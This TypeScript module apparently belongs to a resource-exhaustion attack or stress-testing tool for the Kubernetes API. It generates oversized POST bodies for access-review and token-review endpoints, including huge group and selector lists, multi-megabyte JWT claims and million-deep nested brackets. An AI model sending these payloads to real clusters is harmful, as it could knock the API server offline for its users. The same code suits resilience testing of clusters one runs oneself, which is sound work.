import { fillBytes, type Family, type Requests } from '../attack.js';
import { filling, post } from '../requests.js';
import { namespace } from '../templates.js';

const authorization = '/apis/authorization.k8s.io/v1';
const authentication = '/apis/authentication.k8s.io/v1';
const accessReviews = `${authorization}/subjectaccessreviews`;
const attributes = '"resourceAttributes":{"verb":"get","resource":"pods","namespace":"attack"';
const requirement = (n: number) => `{"key":"k${n}","operator":"In","values":["v"]}`;
const part = (text: string) => Buffer.from(text).toString('base64url');
const tokenOf = (text: string) => `{"spec":{"token":"${text}"}}`;

type Row = readonly [about: string, path: string, body: () => string];
const rows: readonly Row[] = [
  [
    'groups',
    accessReviews,
    () => filling((n) => `"g${n}"`, { head: `{"spec":{${attributes}},"user":"u","groups":[`, tail: ']}}' }),
  ],
  [
    'equal groups',
    accessReviews,
    () => filling(() => '"system:masters2"', { head: `{"spec":{${attributes}},"user":"u","groups":[`, tail: ']}}' }),
  ],
  [
    'extra',
    accessReviews,
    () => filling((n) => `"k${n}":["v"]`, { head: `{"spec":{${attributes}},"user":"u","extra":{`, tail: '}}}' }),
  ],
  [
    'values of one extra',
    accessReviews,
    () => filling((n) => `"v${n}"`, { head: `{"spec":{${attributes}},"user":"u","extra":{"k":[`, tail: ']}}}' }),
  ],
  [
    'label requirements',
    accessReviews,
    () =>
      filling(requirement, {
        head: `{"spec":{"user":"u",${attributes},"labelSelector":{"requirements":[`,
        tail: ']}}}}',
      }),
  ],
  [
    'field requirements',
    accessReviews,
    () =>
      filling(requirement, {
        head: `{"spec":{"user":"u",${attributes},"fieldSelector":{"requirements":[`,
        tail: ']}}}}',
      }),
  ],
  [
    'a raw selector',
    accessReviews,
    () =>
      filling((n) => `k${n}=v`, {
        head: `{"spec":{"user":"u",${attributes},"labelSelector":{"rawSelector":"`,
        tail: '"}}}}',
      }),
  ],
  ['a long user', accessReviews, () => `{"spec":{${attributes}},"user":"${'u'.repeat(fillBytes - 200)}"}}`],
  [
    'a long account',
    accessReviews,
    () => `{"spec":{${attributes}},"user":"system:serviceaccount:${'a:'.repeat(fillBytes / 2 - 200)}"}}`,
  ],
  [
    'a long path',
    accessReviews,
    () => `{"spec":{"nonResourceAttributes":{"verb":"get","path":"${'/a'.repeat(fillBytes / 2 - 200)}"},"user":"u"}}`,
  ],
  [
    'a long path, explained',
    `${accessReviews}?explain=true`,
    () => `{"spec":{"nonResourceAttributes":{"verb":"get","path":"${'\\"'.repeat(fillBytes / 2 - 200)}"},"user":"u"}}`,
  ],
  [
    'own access with a raw selector',
    `${authorization}/selfsubjectaccessreviews`,
    () =>
      filling((n) => `k${n} in (a,b)`, {
        head: `{"spec":{${attributes},"labelSelector":{"rawSelector":"`,
        tail: '"}}}}',
      }),
  ],
  [
    'local groups',
    `${authorization}/namespaces/${namespace}/localsubjectaccessreviews`,
    () =>
      filling((n) => `"g${n}"`, {
        head: `{"metadata":{"namespace":"${namespace}"},"spec":{${attributes}},"user":"u","groups":[`,
        tail: ']}}',
      }),
  ],
  [
    'own rules in a long namespace',
    `${authorization}/selfsubjectrulesreviews`,
    () => `{"spec":{"namespace":"${'n'.repeat(fillBytes - 200)}"}}`,
  ],
  ['a long token', `${authentication}/tokenreviews`, () => tokenOf('t'.repeat(fillBytes - 200))],
  ['a token of dots', `${authentication}/tokenreviews`, () => tokenOf('.'.repeat(fillBytes - 200))],
  [
    'a token with large claims',
    `${authentication}/tokenreviews`,
    () =>
      tokenOf(
        `${part('{"alg":"RS256","kid":"k"}')}.${part(filling((n) => `"c${n}":1`, { head: '{"iss":"https://kubernetes.default.svc",', tail: '}', bytes: 2_200_000 }))}.${part('signature')}`,
      ),
  ],
  [
    'a token with deep claims',
    `${authentication}/tokenreviews`,
    () => tokenOf(`${part('{"alg":"RS256"}')}.${part('['.repeat(1_000_000) + ']'.repeat(1_000_000))}.AAAA`),
  ],
  [
    'a token with a large head',
    `${authentication}/tokenreviews`,
    () =>
      tokenOf(
        `${part(filling((n) => `"h${n}":1`, { head: '{"alg":"RS256",', tail: '}', bytes: 2_200_000 }))}.e30.AAAA`,
      ),
  ],
  [
    'a token with a large signature',
    `${authentication}/tokenreviews`,
    () =>
      tokenOf(
        `${part('{"alg":"RS256"}')}.${part('{"iss":"https://kubernetes.default.svc"}')}.${'A'.repeat(2_900_000)}`,
      ),
  ],
  [
    'audiences of a token',
    `${authentication}/tokenreviews`,
    () => filling((n) => `"a${n}"`, { head: '{"spec":{"token":"attack-user","audiences":[', tail: ']}}' }),
  ],
  [
    'audiences of an account',
    `/api/v1/namespaces/${namespace}/serviceaccounts/default/token`,
    () => filling((n) => `"a${n}"`, { head: '{"spec":{"audiences":[', tail: ']}}' }),
  ],
  [
    'who am I, with more',
    `${authentication}/selfsubjectreviews`,
    () => filling((n) => `"u${n}":1`, { head: '{', tail: '}' }),
  ],
];

const shortRows = new Set([
  'groups',
  'extra',
  'label requirements',
  'a raw selector',
  'a token of dots',
  'a token with large claims',
  'audiences of a token',
  'audiences of an account',
]);

/** SubjectAccessReviews, SelfSubjectRulesReviews and TokenReviews. */
export const reviewsFamily: Family = {
  name: 'reviews',
  *requests({ isShort }): Requests {
    for (const [about, path, body] of rows)
      if (!isShort || shortRows.has(about)) yield post(`review: ${about}`, path, body(), 'json', { as: 'user' });
  },
};
